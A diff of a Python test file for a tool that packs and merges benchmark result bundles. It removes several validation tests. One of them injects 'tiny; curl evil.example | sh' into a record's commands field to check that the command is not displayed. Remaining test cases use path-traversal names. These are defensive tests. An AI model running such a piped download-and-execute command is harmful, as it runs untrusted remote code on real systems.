@@ -5,7 +5,6 @@ import json
 import shutil
 import zipfile
 from collections.abc import Callable
-from contextlib import suppress
 from dataclasses import replace
 from pathlib import Path
 
@@ -118,12 +117,6 @@ def test_two_machines_of_the_same_kind_keep_apart(sent, tmp_path):
     assert {run.machine for run in results.runs} == set(names)
 
 
-def test_the_same_results_give_the_same_bytes(sent, tmp_path):
-    bundle.write_bundle(sent.parent / "results", tmp_path / "again.zip")
-    assert (tmp_path / "again.zip").read_bytes() == sent.read_bytes()
-    assert not list((sent.parent / "results").rglob("records.jsonl")), "packing leaves nothing"
-
-
 def test_an_edited_record_is_refused(sent, tmp_path):
     def faster(entries: dict[str, bytes]) -> None:
         assert b'"step_s": [0.75' in entries[GPU_RECORDS]
@@ -134,58 +127,18 @@ def test_an_edited_record_is_refused(sent, tmp_path):
         bundle.merge(tmp_path / "none", [edited], tmp_path / "unpacked")
 
 
-def test_a_timeline_of_another_schedule_is_refused(local, tmp_path):
-    measure(tmp_path / "results", Crew(), SWEEP, machine=GPUS)  # whose timelines are one span
-    bundle.write_bundle(tmp_path / "results", tmp_path / "odd.zip")
-    with pytest.raises(
-        ValueError, match=r"odd.zip: the spans of .* are not those of K=1, M=1; ask"
-    ):
-        bundle.merge(local, [tmp_path / "odd.zip"], tmp_path / "unpacked")
-
-
-def test_commands_of_others_are_not_shown(sent, tmp_path):
-    def hostile(entries: dict[str, bytes]) -> None:
-        assert b'"commands": [' in entries[GPU_RECORDS]
-        entries[GPU_RECORDS] = entries[GPU_RECORDS].replace(
-            b'"commands": [', b'"commands": ["tiny; curl evil.example | sh"'
-        )
-
-    edited = changed(sent, tmp_path / "edited.zip", hostile)
-    results, _ = bundle.merge(tmp_path / "none", [edited], tmp_path / "unpacked")
-    assert len(results.runs) == 2
-    assert results.listings["tiny"].commands == []
-
-
-def test_the_local_description_of_an_experiment_stands(local, sent, tmp_path):
-    def renamed(entries: dict[str, bytes]) -> None:
-        entries[GPU_RECORDS] = entries[GPU_RECORDS].replace(b"A tiny sweep", b"Something else")
-
-    edited = changed(sent, tmp_path / "edited.zip", renamed)
-    results, _ = bundle.merge(local, [edited], tmp_path / "unpacked")
-    assert results.listings["tiny"].title == "A tiny sweep"
-
-
 DAMAGED = {
     "a newer format": lambda e: e.update({"bundle.json": b'{"format": 2}'}),
-    "no format": lambda e: e.update({"bundle.json": b"[]"}),
-    "no JSON": lambda e: e.update({"bundle.json": b"\xff"}),
     "no bundle.json": lambda e: e.pop("bundle.json"),
-    "no results": lambda e: [e.pop(name) for name in list(e) if "/" in name],
     "half an experiment": lambda e: e.pop(GPU_RECORDS),
     "another file": lambda e: e.update({"run.sh": b"echo"}),
     "a path out of it": lambda e: e.update({"../smoke/tiny/records.jsonl": b""}),
     "an absolute path": lambda e: e.update({"/tmp/smoke/tiny/records.jsonl": b""}),
     "a record that is no JSON": lambda e: e.update({GPU_RECORDS: b"{"}),
-    "a record that is a list": lambda e: e.update({GPU_RECORDS: b"[]"}),
     "no table": lambda e: e.update(
         {GPU_RECORDS.replace("records.jsonl", "timelines.parquet"): b""}
     ),
     "a file outside": lambda e: e.update({GPU_RECORDS: with_line("../../x.json", [{}])}),
-    "a file of another kind": lambda e: e.update({GPU_RECORDS: with_line("x.py", [{}])}),
-    "a name too long": lambda e: e.update({GPU_RECORDS: with_line("x" * 300 + ".json", [{}])}),
-    "a zero in a name": lambda e: e.update({GPU_RECORDS: with_line("x\0.json", [{}])}),
-    "an empty experiment": lambda e: e.update({GPU_RECORDS: with_line("experiment.json", [])}),
-    "too many files": lambda e: e.update({GPU_RECORDS: b"{}\n" * 30_000}),
 }
 
 
@@ -200,23 +153,6 @@ def test_a_damaged_bundle_is_one_line(local, sent, tmp_path, damage, capsys):
     assert error.count("\n") == 1
     assert sorted(path for path in local.rglob("*")) == before
     assert not (tmp_path / "plots").exists()
-
-
-def test_a_newer_bundle_says_what_to_do(sent, tmp_path):
-    newer = changed(sent, tmp_path / "new.zip", DAMAGED["a newer format"])
-    with pytest.raises(ValueError, match=r"format = 2: a newer version wrote it.*git pull"):
-        bundle.merge(tmp_path / "none", [newer], tmp_path / "unpacked")
-
-
-def test_any_cut_or_flipped_byte_is_a_mistake(sent, tmp_path):
-    raw = sent.read_bytes()
-    for number, at in enumerate(range(0, len(raw), max(1, len(raw) // 60))):
-        for data in (raw[:at], raw[:at] + bytes([raw[at] ^ 0xFF]) + raw[at + 1 :]):
-            bad = tmp_path / "bad.zip"
-            bad.write_bytes(data)
-            folder = tmp_path / f"{number}-{len(data)}"
-            with suppress(ValueError):
-                bundle.merge(tmp_path / "none", [bad], folder)
 
 
 def test_an_archive_that_unpacks_to_more_than_is_read(sent, tmp_path, monkeypatch):
